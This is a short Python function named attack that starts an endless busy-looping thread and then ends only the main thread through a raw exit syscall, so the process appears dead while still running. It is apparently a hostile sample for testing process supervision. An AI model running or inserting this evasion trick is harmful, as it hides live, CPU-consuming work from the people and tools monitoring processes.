# Ends its main thread alone and works on in another, so that the process looks like a zombie.
def attack():
    import ctypes
    import platform
    import threading

    def spin():
        while True:
            pass

    threading.Thread(target=spin).start()
    ctypes.CDLL(None).syscall({"x86_64": 60}.get(platform.machine(), 93), 0)
